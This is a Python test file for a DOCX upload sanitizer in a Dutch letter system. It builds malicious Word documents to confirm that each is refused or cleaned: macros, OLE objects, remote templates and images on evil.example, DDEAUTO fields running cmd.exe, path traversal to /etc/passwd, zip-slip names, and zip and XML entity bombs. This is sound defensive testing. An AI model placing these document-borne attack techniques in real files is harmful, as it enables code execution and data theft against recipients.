"""A corrected letter uploaded from Word carries only what a letter needs. Each document here is a real
DOCX, built with python-docx and then altered the way Word (or an attacker) would; every refusal
tells the behandelaar in Dutch what to change."""

from __future__ import annotations

import io
import re
import shutil
import struct
import subprocess
import zipfile

import pytest
from conftest import ROOT, pdf_text

from docgen.letters.upload import MAX_PART_BYTES, UploadRefused, sanitize_upload

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def letter(*paragraphs: str) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs or ("Geachte heer, mevrouw,", "Wij zijn voornemens uw verblijfsvergunning in te trekken."):
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def altered(document: bytes, *, replace: dict[str, tuple[bytes, bytes]] | None = None,
            add: dict[str, bytes] | None = None, types: bytes = b"", relations: str = "") -> bytes:
    """The document with parts changed (name → (old, new)), parts added, content types and relations added."""
    replace, add = dict(replace or {}), dict(add or {})
    if types:
        replace["[Content_Types].xml"] = (b"</Types>", types + b"</Types>")
    if relations:
        replace["word/_rels/document.xml.rels"] = (b"</Relationships>", relations.encode() + b"</Relationships>")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename in replace:
                old, new = replace[item.filename]
                assert old in data, f"{old!r} not in {item.filename}"
                data = data.replace(old, new, 1)
            dst.writestr(item.filename, data)
        for name, data in add.items():
            dst.writestr(name, data)
    return out.getvalue()


def in_body(document: bytes, xml: str) -> bytes:
    """The document with `xml` (WordprocessingML, w: prefix) as the last paragraph of its body."""
    return altered(document, replace={"word/document.xml": (b"<w:sectPr", xml.encode() + b"<w:sectPr")})


def relation(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'


def text_of(document: bytes) -> list[str]:
    import docx

    return [p.text for p in docx.Document(io.BytesIO(document)).paragraphs]


def refusal(document: bytes, filename: str = "brief.docx") -> str:
    with pytest.raises(UploadRefused) as refused:
        sanitize_upload(document, filename)
    assert "upload" in refused.value.reason or "Sla het op" in refused.value.reason  # tells what to do
    return refused.value.reason


# -- what a letter needs passes, unchanged in text ---------------------------------------------

def test_a_plain_corrected_letter_passes_with_its_text_unchanged():
    sent = letter("Geachte mevrouw Jansen,", "Correctie: betrokkene verblijft in de opvang.")
    assert text_of(sanitize_upload(sent, "brief.docx")) == text_of(sent)


@pytest.mark.parametrize("template", sorted((ROOT / "templates").glob("*.docx")), ids=lambda p: p.stem)
def test_every_letter_template_of_docgen_passes(template):
    sanitize_upload(template.read_bytes(), template.name)


def test_a_letter_with_a_logo_and_a_link_to_a_web_page_passes():
    import docx

    document = docx.Document()
    document.add_picture(str(ROOT / "docs" / "case.png"))
    document.add_paragraph("Meer informatie vindt u op de website van de IND.")
    out = io.BytesIO()
    document.save(out)
    sent = in_body(altered(out.getvalue(), relations=relation("rId90", "hyperlink", "https://ind.nl/")),
                   '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>ind.nl</w:t></w:r></w:hyperlink></w:p>')
    kept = sanitize_upload(sent, "brief.docx")
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        assert any(n.startswith("word/media/") for n in archive.namelist())
        assert b"https://ind.nl/" in archive.read("word/_rels/document.xml.rels")


def test_a_hidden_paragraph_mark_is_no_hidden_text():
    sent = in_body(letter(), '<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>zichtbaar</w:t></w:r></w:p>')
    assert "zichtbaar" in text_of(sanitize_upload(sent))


def test_what_is_stored_is_a_new_archive_without_trailing_data_or_comment():
    sent = letter()
    with_extra = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sent)) as src, zipfile.ZipFile(with_extra, "w") as dst:
        dst.comment = b"hidden payload in the zip comment"
        for item in src.infolist():
            dst.writestr(item, src.read(item))
    kept = sanitize_upload(with_extra.getvalue())
    assert b"hidden payload" not in kept
    assert zipfile.ZipFile(io.BytesIO(kept)).namelist()[0] == "[Content_Types].xml"


# -- macros, ActiveX, embedded objects: refused ------------------------------------------------

def test_a_macro_enabled_document_is_refused():
    sent = altered(letter(), replace={"[Content_Types].xml": (b"document.main+xml", b"document.macroEnabled.main+xml")},
                   add={"word/vbaProject.bin": b"Sub AutoOpen()\nEnd Sub"},
                   types=b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                   relations=relation("rId91", "vbaProject", "vbaProject.bin", external=False))
    assert "macro's" in refusal(sent)


def test_a_vba_project_hidden_under_another_content_type_is_refused():
    sent = altered(letter(), add={"word/vbaProject.bin": b"Sub AutoOpen()\nEnd Sub"},
                   types=b'<Default Extension="bin" ContentType="image/png"/>')
    assert "macro's" in refusal(sent)


def test_a_docm_file_name_is_refused():
    assert "macro's" in refusal(letter(), "brief.docm")


def test_activex_controls_are_refused():
    sent = altered(letter(), add={"word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'},
                   types=b'<Override PartName="/word/activeX/activeX1.xml" '
                         b'ContentType="application/vnd.ms-office.activeX+xml"/>')
    assert "ActiveX" in refusal(sent)


def test_an_embedded_ole_object_is_refused():
    sent = altered(in_body(letter(), '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
                                     ' ProgID="Package" r:id="rId92"/></w:object></w:r></w:p>'),
                   add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0payload.exe"},
                   types=b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
                   relations=relation("rId92", "oleObject", "embeddings/oleObject1.bin", external=False))
    assert "ingesloten objecten" in refusal(sent)


def test_an_object_in_the_text_is_refused_even_without_its_part():
    assert "ingesloten objecten" in refusal(in_body(letter(), "<w:p><w:r><w:object/></w:r></w:p>"))


# -- external content ---------------------------------------------------------------------------

def test_an_external_attached_template_is_stripped_and_nothing_else_changes():
    sent = altered(letter(), replace={"word/settings.xml": (b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom')},
                   add={"word/_rels/settings.xml.rels": (
                       '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
                       '"http://schemas.openxmlformats.org/package/2006/relationships">'
                       + relation("rId1", "attachedTemplate", "file://///10.0.0.9/share/Normal.dotm")
                       + "</Relationships>").encode()})
    kept = sanitize_upload(sent)
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
        assert b"10.0.0.9" not in archive.read("word/_rels/settings.xml.rels")
        assert b'mc:Ignorable="w14' in archive.read("word/settings.xml")  # Word's prefixes survive the rewrite
    assert text_of(kept) == text_of(sent)


def test_a_cleaned_letter_still_opens_in_libreoffice(tmp_path):
    if not shutil.which("soffice"):
        pytest.fail("LibreOffice is missing: scripts/test.sh installs libreoffice-writer-nogui")
    sent = altered(letter("Geachte mevrouw Jansen,", "Uw verblijfsvergunning blijft geldig."),
                   replace={"word/settings.xml": (b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom')},
                   add={"word/_rels/settings.xml.rels": (
                       '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
                       '"http://schemas.openxmlformats.org/package/2006/relationships">'
                       + relation("rId1", "attachedTemplate", "https://evil.example/Normal.dotm")
                       + "</Relationships>").encode()})
    (tmp_path / "brief.docx").write_bytes(sanitize_upload(sent))
    subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "brief.docx")], check=True,
                   capture_output=True, timeout=300)
    assert "Uw verblijfsvergunning blijft geldig." in pdf_text(tmp_path / "brief.pdf")


@pytest.mark.parametrize("kind, target", [
    ("frame", "https://evil.example/frame.html"),
    ("subDocument", "file:///C:/Users/x/deel2.docx"),
    ("oleObject", "\\\\evil.example\\share\\sheet.xlsx"),
    ("image", "https://evil.example/pixel.png"),
])
def test_content_fetched_from_outside_the_document_is_refused(kind, target):
    sent = altered(letter(), relations=relation("rId93", kind, target))
    assert "haalt inhoud van buiten het document op" in refusal(sent)


@pytest.mark.parametrize("target", ["file:///C:/Windows/System32/cmd.exe", "\\\\evil.example\\share", "javascript:x"])
def test_a_link_that_is_not_to_a_web_page_or_mail_address_is_refused(target):
    assert "koppeling" in refusal(altered(letter(), relations=relation("rId94", "hyperlink", target)))


@pytest.mark.parametrize("field", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
                                   'INCLUDEPICTURE "https://evil.example/p.png" \\d',
                                   'INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\x.docx"'])
def test_a_field_that_fetches_or_runs_something_is_refused(field):
    head, tail = field.split(" ", 1)  # split over two runs, as Word does
    sent = in_body(letter(), '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                             f'<w:r><w:instrText xml:space="preserve"> {head[:2]}</w:instrText></w:r>'
                             f'<w:r><w:instrText xml:space="preserve">{head[2:]} {tail}</w:instrText></w:r>'
                             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    assert "veld" in refusal(sent)


def test_a_relation_that_leaves_the_package_is_refused():
    sent = altered(letter(), relations=relation("rId95", "image", "../../../etc/passwd", external=False))
    assert "beschadigd" in refusal(sent)


# -- text the author cannot see -----------------------------------------------------------------

def test_hidden_text_is_refused():
    sent = in_body(letter(), '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>interne notitie: dossier zwak</w:t></w:r></w:p>')
    assert "verborgen tekst" in refusal(sent)


def test_tracked_changes_are_refused():
    sent = in_body(letter(), '<w:p><w:del w:id="1" w:author="bea"><w:r><w:delText>oude tekst</w:delText></w:r>'
                             '</w:del></w:p>')
    assert "bijgehouden wijzigingen" in refusal(sent)


def test_comments_are_refused():
    sent = altered(letter(), add={"word/comments.xml": b'<?xml version="1.0"?><w:comments xmlns:w="x"/>'},
                   types=b'<Override PartName="/word/comments.xml" ContentType="application/'
                         b'vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>')
    assert "opmerkingen" in refusal(sent)


# -- bombs and broken files ---------------------------------------------------------------------

def test_a_document_xml_that_inflates_past_the_limit_is_refused():
    paragraph = "<w:p><w:r><w:t>" + "a" * 1000 + "</w:t></w:r></w:p>"
    sent = in_body(letter(), paragraph * (MAX_PART_BYTES // len(paragraph) + 1))
    assert len(sent) < MAX_PART_BYTES // 100  # small as sent: only the uncompressed size tells
    assert "te groot" in refusal(sent)


def test_a_part_whose_zip_header_understates_its_size_is_refused():
    """The central directory says 1 kB; the data inflates to 11 MB. Reading, not the header, decides."""
    sent = altered(letter(), add={"word/media/image1.png": b"\0" * (MAX_PART_BYTES + 1024 * 1024)},
                   types=b'<Default Extension="png" ContentType="image/png"/>')
    entry = sent.rindex(b"PK\x01\x02", 0, sent.rindex(b"word/media/image1.png") + 1)
    forged = sent[:entry + 24] + struct.pack("<I", 1024) + sent[entry + 28:]
    assert zipfile.ZipFile(io.BytesIO(forged)).getinfo("word/media/image1.png").file_size == 1024
    reason = refusal(forged)
    assert "beschadigd" in reason or "te groot" in reason


def test_many_parts_that_together_inflate_too_far_are_refused():
    filler = {f"word/media/image{i}.png": b"\0" * (MAX_PART_BYTES - 1024) for i in range(5)}
    sent = altered(letter(), add=filler, types=b'<Default Extension="png" ContentType="image/png"/>')
    assert "te groot" in refusal(sent)


def test_an_xml_entity_bomb_is_refused():
    bomb = (b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>')
    sent = altered(letter(), replace={"word/document.xml": (b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
                                                            bomb)})
    assert "DTD" in refusal(sent)


@pytest.mark.parametrize("data, words", [
    (b"%PDF-1.7 not a word document", "geen Word-document"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "oud Word-bestand (.doc)"),
    (b"", "geen Word-document"),
])
def test_what_is_not_a_docx_is_refused_with_the_reason(data, words):
    assert words in refusal(data)


def test_a_part_named_to_escape_the_archive_is_refused():
    assert "ongeldige naam" in refusal(altered(letter(), add={"../../evil.xml": b"<x/>"}))


def test_a_part_that_is_there_twice_is_refused():
    sent = letter()
    with zipfile.ZipFile(io.BytesIO(sent)) as archive:
        other = archive.read("word/document.xml").replace(b"Geachte", b"Beste")
    out = io.BytesIO(sent)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", other)
    assert "twee keer" in refusal(out.getvalue())


def test_every_refusal_is_in_dutch():
    reasons = [refusal(letter(), "brief.docm"), refusal(b"junk"),
               refusal(in_body(letter(), "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"))]
    for reason in reasons:
        assert re.search(r"\b(het|een|document|opnieuw)\b", reason, re.IGNORECASE), reason
